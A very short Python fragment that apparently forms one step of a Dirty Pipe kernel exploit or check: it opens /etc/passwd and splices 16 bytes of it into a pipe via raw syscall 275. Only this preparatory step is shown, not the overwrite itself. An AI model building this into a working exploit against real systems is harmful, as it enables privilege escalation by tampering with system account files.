# Splices a file into a pipe, which Dirty Pipe needed.
r, w = os.pipe()
f = os.open("/etc/passwd", 0)
end(call(275, f, 0, w, 0, 16, 0) and "splice")
